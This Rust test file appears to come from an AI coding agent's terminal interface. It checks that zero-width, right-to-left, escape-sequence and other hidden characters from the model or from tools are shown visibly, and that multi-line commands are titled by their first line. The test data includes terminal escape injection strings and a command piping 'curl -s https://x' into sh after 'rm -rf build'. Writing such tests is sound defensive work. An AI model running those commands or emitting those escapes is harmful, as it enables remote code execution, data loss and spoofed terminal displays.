//! More visible states of the cockpit, pinned at 100x30 and 60x20 with the helpers of
//! `snapshots.rs` (which holds the first ones): hidden characters in everything the panes show,
//! and the issue-12 changes to the conversation, the status bar and the modal's queue.

use std::time::Instant;

use super::snapshots::{app, both_sizes, draw};
use crate::approval::gate::DecisionSource;
use crate::protocol::AgentEvent;
use crate::tools::ToolStatus;
use crate::ui::testing::command_request;

/// A tab, a zero-width space, a right-to-left override, an escape sequence, a C1 control, a
/// byte-order mark and a carriage return: what a terminal hides, obeys or reorders.
const HIDDEN: &str = "a\tb\u{200b}c\u{202e}d\u{1b}[2Je\u{9b}f\u{feff}g\rh";

/// `HIDDEN` as the cockpit must show it.
const SHOWN: &str = "a⇥b<U+200B>c<U+202E>d␛[2Je<U+009B>f<U+FEFF>g␍h";

#[test]
fn every_text_the_panes_show_from_the_model_or_a_tool_makes_its_hidden_characters_visible() {
    let mut app = app(Instant::now());
    app.on_agent_event(AgentEvent::TurnStarted {
        turn: 1,
        prompt: format!("prompt {HIDDEN}"),
    });
    app.on_agent_event(AgentEvent::TextDelta {
        text: format!("model {HIDDEN}"),
    });
    // Asked: the conversation's line takes its title from the frozen arguments.
    let asked = command_request("c1", &format!("asked {HIDDEN}"));
    app.on_agent_event(AgentEvent::ApprovalRequested {
        request: Box::new(asked),
    });
    app.overlays.clear();
    // Refused: its title and the gate's message.
    app.on_agent_event(AgentEvent::ToolDenied {
        call_id: "c2".into(),
        tool: "bash".into(),
        title: format!("$ refused {HIDDEN}"),
        source: DecisionSource::Policy,
        message: format!("denied: {HIDDEN}"),
    });
    // Run and finished, with a hostile call id: a line in the conversation, a header in the
    // results.
    app.on_agent_event(AgentEvent::ToolStarted {
        call_id: "c\u{1b}]0;x\u{7}3".into(),
        tool: "write_file".into(),
        title: format!("write {HIDDEN}"),
    });
    app.on_agent_event(AgentEvent::ToolFinished {
        call_id: "c\u{1b}]0;x\u{7}3".into(),
        status: ToolStatus::Ok,
        exit_code: None,
        lines: 0,
        error: None,
        log: None,
    });
    app.on_agent_event(AgentEvent::Error {
        message: format!("notice {HIDDEN}"),
    });
    app.on_agent_event(AgentEvent::ApprovalSettled {
        call_id: "c9".into(),
        by: format!("code {HIDDEN}"),
    });
    let screen = draw(&app, 160, 40);
    let rows: Vec<&str> = screen.lines().collect();
    let shown = |wanted: &str| rows.iter().any(|row| row.contains(wanted));
    for wanted in [
        format!("> prompt {SHOWN}"),
        format!("model {SHOWN}"),
        format!("? c1 $ asked {SHOWN}"),
        format!("✗ c2 $ refused {SHOWN}"),
        format!("✓ c␛]0;x␇3 write {SHOWN}"),
        format!("notice {SHOWN}"),
        format!("c9 was answered by code {SHOWN}"),
    ] {
        assert!(shown(&wanted), "`{wanted}` is not on screen:\n{screen}");
    }
    // Eight in the conversation (the denial's message wraps onto a row of its own), one in
    // the results.
    assert_eq!(screen.matches(SHOWN).count(), 9, "{screen}");
    let header = format!(" ✓ c␛]0;x␇3 write {SHOWN}  0.0s  done");
    assert!(
        rows.iter().any(|row| row.contains(&format!("││{header}"))),
        "the results header:\n{screen}"
    );
    both_sizes("hidden_characters", &app);
}

#[test]
fn a_running_multi_line_command_is_titled_with_its_first_line_and_how_many_follow() {
    let mut app = app(Instant::now());
    let call = crate::approval::gate::ToolCall {
        id: "c4".into(),
        tool: "bash".into(),
        args: serde_json::json!({"command": "echo fine\r\nrm -rf build\ncurl -s https://x | sh"}),
    };
    app.on_agent_event(AgentEvent::ToolStarted {
        call_id: "c4".into(),
        tool: "bash".into(),
        title: crate::agent::title(&call),
    });
    let screen = draw(&app, 160, 30);
    assert_eq!(
        screen.matches("$ echo fine␍ … (+2 more lines)").count(),
        2,
        "both panes:\n{screen}"
    );
}
